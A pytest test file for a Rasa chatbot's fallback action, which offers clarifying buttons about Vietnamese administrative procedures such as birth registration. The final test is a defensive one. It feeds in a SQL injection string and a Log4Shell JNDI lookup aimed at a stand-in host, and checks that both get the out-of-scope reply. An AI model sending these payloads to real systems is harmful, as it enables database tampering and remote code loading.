from __future__ import annotations

import asyncio
from typing import Any

import pytest
from rasa_sdk.events import ActiveLoop, FollowupAction, SlotSet
from rasa_sdk.executor import CollectingDispatcher

from actions.dialogue.fallback import AskAffirmation
from tests.dialogue.conftest import make_tracker
from tests.fakes import InMemoryProcedureRepository, make_procedure, provider

CATALOGUE = InMemoryProcedureRepository(
    [make_procedure("1.001193", "Thủ tục đăng ký khai sinh", aliases=["giấy khai sinh"])]
)


def ask(
    domain: dict[str, Any], text: str, ranking: list[tuple[str, float]]
) -> list[dict[str, str]]:
    dispatcher = CollectingDispatcher()
    tracker = make_tracker(
        text,
        intent="nlu_fallback",
        intent_ranking=[{"name": n, "confidence": c} for n, c in ranking],
    )
    asyncio.run(AskAffirmation(catalogue=provider(CATALOGUE)).run(dispatcher, tracker, domain))
    (message,) = dispatcher.messages
    assert message["response"] == "utter_ask_affirmation"
    return list(message["buttons"])


def test_offers_the_likeliest_intents_in_vietnamese(domain: dict[str, Any]) -> None:
    buttons = ask(
        domain,
        "cái này thì sao",
        [("nlu_fallback", 0.5), ("ask_fee", 0.4), ("out_of_scope", 0.3), ("ask_duration", 0.2)],
    )
    assert [b["payload"] for b in buttons] == ["/ask_fee", "/ask_duration", "/deny"]
    assert buttons[0]["title"] == domain["responses"]["utter_intent_label_ask_fee"][0]["text"]


def test_keeps_the_procedure_named_in_the_unclear_message(domain: dict[str, Any]) -> None:
    # Names the procedure, but not plainly enough to answer without asking.
    buttons = ask(
        domain,
        "hôm trước bạn em kể chuyện giấy khai sinh bị nhòe mực, rồi chuyện bà nội nữa",
        [("ask_papers", 0.4), ("ask_fee", 0.3)],
    )
    assert buttons[0]["payload"] == '/ask_papers{"procedure_code": "1.001193"}'
    assert buttons[-1]["payload"] == "/deny"


@pytest.mark.parametrize("text", ["giấy khai sinh thế nào nhỉ", "dang ky khai sinh cho chau"])
def test_an_unclear_message_plainly_naming_one_procedure_is_answered(
    domain: dict[str, Any], text: str
) -> None:
    """Buttons asking "papers? fee?" would only ask what the message already says."""
    dispatcher = CollectingDispatcher()
    tracker = make_tracker(
        text,
        intent="nlu_fallback",
        intent_ranking=[{"name": "nlu_fallback", "confidence": 0.5}],
    )
    action = AskAffirmation(catalogue=provider(CATALOGUE))
    events = asyncio.run(action.run(dispatcher, tracker, domain))
    assert "utter_ask_affirmation" not in [m["response"] for m in dispatcher.messages]
    assert dispatcher.messages and SlotSet("procedure_code", "1.001193") in events
    # The fallback loop ends here: the next message is a new question, not a clarification
    # that would revert this one and the procedure it remembered.
    assert events[-2:] == [ActiveLoop(None), FollowupAction("action_listen")]


def test_chit_chat_is_never_offered(domain: dict[str, Any]) -> None:
    buttons = ask(
        domain,
        "asdfgh qwerty",
        [("thank", 0.3), ("goodbye", 0.2), ("greet", 0.2), ("ask_fee", 0.1), ("ask_steps", 0.05)],
    )
    assert [b["payload"] for b in buttons] == ["/ask_fee", "/ask_steps", "/deny"]


def test_an_unclear_message_about_a_matter_handled_elsewhere_says_who(
    domain: dict[str, Any],
) -> None:
    dispatcher = CollectingDispatcher()
    tracker = make_tracker(
        "con tôi muốn làm hộ chiếu đi du học thì sao ạ",
        intent="nlu_fallback",
        intent_ranking=[{"name": "nlu_fallback", "confidence": 0.5}],
    )
    events = asyncio.run(
        AskAffirmation(catalogue=provider(CATALOGUE)).run(dispatcher, tracker, domain)
    )
    assert [m["response"] for m in dispatcher.messages] == ["utter_handled_elsewhere"]
    assert SlotSet("procedure_code", None) in events
    assert events[-2:] == [ActiveLoop(None), FollowupAction("action_listen")]


@pytest.mark.parametrize("text", ["' OR 'x'='x' -- khai sinh", "${jndi:ldap://x.example/a}"])
def test_an_attack_string_gets_the_out_of_scope_reply_and_no_guesses(
    domain: dict[str, Any], text: str
) -> None:
    dispatcher = CollectingDispatcher()
    tracker = make_tracker(
        text, intent="nlu_fallback", intent_ranking=[{"name": "ask_fee", "confidence": 0.4}]
    )
    events = asyncio.run(
        AskAffirmation(catalogue=provider(CATALOGUE)).run(dispatcher, tracker, domain)
    )
    assert [m["response"] for m in dispatcher.messages] == ["utter_out_of_scope"]
    assert events == [ActiveLoop(None), FollowupAction("action_listen")]
